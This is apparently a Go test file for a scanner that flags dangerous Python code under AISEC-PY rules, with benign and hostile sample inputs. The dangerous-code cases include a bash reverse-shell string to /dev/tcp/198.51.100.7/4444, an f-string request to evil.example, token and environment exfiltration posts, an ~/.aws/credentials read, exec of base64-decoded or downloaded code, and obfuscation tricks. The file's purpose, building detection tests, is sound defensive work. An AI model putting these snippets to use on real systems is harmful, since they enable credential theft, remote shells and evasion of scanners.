package pycode

import (
	"strings"
	"testing"
	"time"
)

// rulesOf returns the rule IDs of hits, in order.
func rulesOf(hits []Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.Rule.ID)
	}
	return out
}

func TestCleanCode(t *testing.T) {
	tests := map[string]string{
		"method eval":          "model.eval()\nself.eval()\n",
		"method named eval":    "class M:\n    def eval(self):\n        return self\n",
		"re.compile":           "import re\nP = re.compile(r'\\d+')\n",
		"torch compile import": "from torch import compile\nm = compile(model)\n",
		"string mentions":      "x = \"os.system('id')\"\n",
		"comment":              "# os.system('id')\nx = 1\n",
		"docstring":            "def f():\n    \"\"\"Never calls subprocess.run or eval(x).\n    exec, /bin/sh, ~/.ssh\"\"\"\n    return 1\n",
		"find_spec":            "import importlib.util\nok = importlib.util.find_spec('flash_attn') is not None\n",
		"literal import":       "import importlib\nnp = importlib.import_module('numpy')\n",
		"environ reads":        "import os\na = os.environ.get('X')\nb = 'Y' in os.environ\nos.environ['Z'] = '1'\nc = os.getenv('W', '')\n",
		"getattr on self":      "v = getattr(self.config, name, None)\n",
		"names containing":     "subprocess_mode = 1\nrequests_cache = {}\nsystem_prompt = 'hi'\n",
		"fstring format spec":  "print(f\"{x!r:>10} {y:{w}.{p}f} {{literal}}\")\n",
		"shadowed eval":        "eval = safe_eval\nresult = eval(expr)\n",
		"shadowed exec":        "def exec(cmd):\n    return cmd\nexec(user_value)\n",
		"relative import":      "from .modeling import system\nsystem()\n",
		"safe loaders":         "import torch, yaml, json, numpy as np\ntorch.load(f, weights_only=True)\nyaml.safe_load(s)\njson.loads(s)\nnp.load(p)\nyaml.load(s, Loader=yaml.SafeLoader)\n",
		"decoders alone":       "import base64\nb = base64.b64decode(s)\nc = chr(65)\n",
		"file writes":          "import json\nwith open(path, 'w') as f:\n    f.write(json.dumps(x))\n",
		"os-release":           "open('/etc/os-release').read()\n",
		"unterminated string":  "x = 'abc\ny = os.path.join(a, b)\n",
		"hub download":         "from huggingface_hub import hf_hub_download\np = hf_hub_download(repo_id, 'x.bin', token=os.environ.get('HF_TOKEN'))\n",
		"url in a dict":        "URLS = {'base': 'https://huggingface.co/acme/tiny/resolve/main/vocab.json'}\n",
		"yield from":           "def g():\n    yield from range(3)\n",
		"raise from":           "try:\n    pass\nexcept ValueError as e:\n    raise RuntimeError('x') from e\n",
	}
	for name, src := range tests {
		t.Run(name, func(t *testing.T) {
			if hits := Analyze(src); len(hits) != 0 {
				t.Fatalf("want no hits, got:\n%s", render(hits))
			}
		})
	}
}

func TestDangerousCode(t *testing.T) {
	deepF := "import os\nx = " + strings.Repeat(`f"{`, 100) + "os.system('id')" + strings.Repeat(`}"`, 100) + "\n"
	tests := []struct {
		name, src, rule string
	}{
		{"deep f-string nesting", deepF, "AISEC-PY-001"},
		{"os.system", "import os\nos.system(cmd)\n", "AISEC-PY-001"},
		{"module alias", "import subprocess as sp\nsp.run(x)\n", "AISEC-PY-001"},
		{"star import", "from os import *\nsystem('id')\n", "AISEC-PY-001"},
		{"assigned module", "import subprocess\nsp = subprocess\nsp.call('x')\n", "AISEC-PY-001"},
		{"function reference", "import os\nf = os.system\n", "AISEC-PY-001"},
		{"reference as argument", "import os, threading\nthreading.Thread(target=os.system, args=('id',)).start()\n", "AISEC-PY-001"},
		{"posix alias", "import posix\nposix.system('id')\n", "AISEC-PY-001"},
		{"exec computed", "exec(x)\n", "AISEC-PY-004"},
		{"eval input", "eval(input())\n", "AISEC-PY-004"},
		{"exec base64", "import base64\nexec(base64.b64decode(s))\n", "AISEC-PY-002"},
		{"exec download", "import requests\nexec(requests.get(u).text)\n", "AISEC-PY-002"},
		{"exec literal code", "exec(\"import os; os.system('id')\")\n", "AISEC-PY-001"},
		{"eval compile literal", "eval(compile(\"__import__('os').system('x')\", '<s>', 'exec'))\n", "AISEC-PY-001"},
		{"__import__ computed", "m = __import__(name)\n", "AISEC-PY-004"},
		{"getattr os computed", "import os\ngetattr(os, name)('id')\n", "AISEC-PY-004"},
		{"ctypes", "import ctypes\nlib = ctypes.CDLL('./k.so')\n", "AISEC-PY-004"},
		{"cdll attribute", "import ctypes\nctypes.cdll.LoadLibrary('./k.so')\n", "AISEC-PY-004"},
		{"torch hub", "import torch\nm = torch.hub.load('someone/repo', 'model')\n", "AISEC-PY-004"},
		{"raw socket", "import socket\nsocket.create_connection(('1.2.3.4', 80))\n", "AISEC-PY-005"},
		{"literal URL", "import requests\nrequests.get('http://198.51.100.7/x')\n", "AISEC-PY-005"},
		{"fstring URL", "import requests\nrequests.get(f'https://evil.example/{k}')\n", "AISEC-PY-005"},
		{"env token exfil", "import os, requests\nrequests.post(u, data=os.environ.get('HF_TOKEN'))\n", "AISEC-PY-003"},
		{"env dump two steps", "import os, json, requests\nd = json.dumps(dict(os.environ))\nrequests.post(u, d)\n", "AISEC-PY-003"},
		{"aws credentials", "import os\nopen(os.path.expanduser('~/.aws/credentials')).read()\n", "AISEC-PY-006"},
		{"shell string", "cmd = 'bash -i >& /dev/tcp/198.51.100.7/4444 0>&1'\n", "AISEC-PY-001"},
		{"fstring expression", "import os\nx = f\"{os.system('id')}\"\n", "AISEC-PY-001"},
		{"nested fstring", "import os\nx = f\"{f'{os.popen(c).read()}'}\"\n", "AISEC-PY-001"},
		{"line continuation", "import os\nos.\\\nsystem('id')\n", "AISEC-PY-001"},
		{"multi-line call", "import subprocess\nsubprocess.run(\n    ['id'],\n    check=True,\n)\n", "AISEC-PY-001"},
		{"pickle loads", "import pickle\nobj = pickle.loads(data)\n", "AISEC-PY-004"},
		{"marshal of base64", "import marshal, base64\nmarshal.loads(base64.b64decode(x))\n", "AISEC-PY-002"},
		{"import_module imported", "from importlib import import_module\nimport_module(n)\n", "AISEC-PY-004"},
		{"globals builtins", "globals()['__builtins__']['eval'](x)\n", "AISEC-PY-004"},
		{"vars lookup", "import os\nvars(os)['system']('id')\n", "AISEC-PY-001"},
		{"method does not shadow", "class A:\n    def exec(self):\n        pass\nexec(x)\n", "AISEC-PY-004"},
		{"math bold name", "import os\n𝐨𝐬.system('x')\n", "AISEC-PY-001"},
		{"hex escaped import", "__import__('\\x6f\\x73').system('id')\n", "AISEC-PY-001"},
		{"sys.modules.get", "import sys\nsys.modules.get('os').system('id')\n", "AISEC-PY-001"},
		{"chr-built exec", "exec(''.join(map(chr, [105, 100])))\n", "AISEC-PY-002"},
		{"async subprocess", "import asyncio\nawait asyncio.create_subprocess_shell(c)\n", "AISEC-PY-001"},
		{"pexpect", "import pexpect\npexpect.spawn('/usr/bin/ssh')\n", "AISEC-PY-001"},
		{"yaml unsafe", "import yaml\nyaml.load(s)\n", "AISEC-PY-007"},
		{"torch.load plain", "import torch\ntorch.load(p)\n", "AISEC-PY-008"},
		{"network variable", "import urllib.request\nurllib.request.urlopen(url)\n", "AISEC-PY-009"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			hits := Analyze(tt.src)
			for _, id := range rulesOf(hits) {
				if id == tt.rule {
					return
				}
			}
			t.Fatalf("want %s, got:\n%s", tt.rule, render(hits))
		})
	}
}

// TestBoundedCost feeds adversarial shapes of a few MiB; each must finish quickly.
func TestBoundedCost(t *testing.T) {
	inputs := map[string]string{
		"deep brackets": strings.Repeat("(", 100000) + strings.Repeat(")", 100000),
		"long chain":    "os" + strings.Repeat(".a", 1<<18) + "()",
		"many strings":  "exec(" + strings.Repeat("'ab' ", 1<<17) + ")",
		"many calls":    strings.Repeat("os.system(x)\n", 50000),
		"fstrings":      strings.Repeat(`f"{f'{f"{x}"}'}"`+"\n", 25000),
		"long name":     strings.Repeat("a", 4<<20) + "(x)",
		"nested exec":   strings.Repeat(`exec("exec('exec(\"x\")')")`+"\n", 20000),
		"unterminated":  "x = '''" + strings.Repeat("abc\n", 1<<20),
	}
	for name, src := range inputs {
		start := time.Now()
		hits := Analyze(src)
		d := time.Since(start)
		t.Logf("%s: %d bytes in %v", name, len(src), d)
		if d > 5*time.Second {
			t.Errorf("%s took %v", name, d)
		}
		if len(hits) > 100 {
			t.Errorf("%s: %d hits", name, len(hits))
		}
	}
}

func TestStrip(t *testing.T) {
	src := "x = 'os.system'  # call os.system\ny = \"\"\"\nsubprocess\n\"\"\"\nz = f\"{os.popen(c)}\"\n"
	got := Strip(src)
	if len(got) != len(src) || strings.Count(got, "\n") != strings.Count(src, "\n") {
		t.Fatalf("Strip changed offsets:\n%q", got)
	}
	if strings.Contains(got, "system") || strings.Contains(got, "subprocess") {
		t.Fatalf("literal or comment text survived:\n%s", got)
	}
	if !strings.Contains(got, "os.popen(c)") {
		t.Fatalf("f-string expression was blanked:\n%s", got)
	}
}

func TestLexTokens(t *testing.T) {
	src := "rb'\\x41' f\"a{b!r:>{w}}c\" u'\\u00e9' 0x1F 1e-5 ... :=\n"
	var got []string
	lx := NewLexer(src)
	for tok, ok := lx.Next(); ok; tok, ok = lx.Next() {
		got = append(got, tok.Text)
	}
	want := []string{`\x41`, "a", "f(", "b", "f(", "w", "f)", "f)", "é", "0x1F", "1e-5", "...", ":=", "\n"}
	if strings.Join(got, "|") != strings.Join(want, "|") {
		t.Fatalf("tokens %q\nwant   %q", got, want)
	}
}

func TestLine(t *testing.T) {
	n, text := Line("a\n  bb  \nc", 4)
	if n != 2 || text != "bb" {
		t.Fatalf("Line = %d %q", n, text)
	}
	if n, _ := Line("x", 99); n != 1 {
		t.Fatalf("out of range offset gave line %d", n)
	}
}
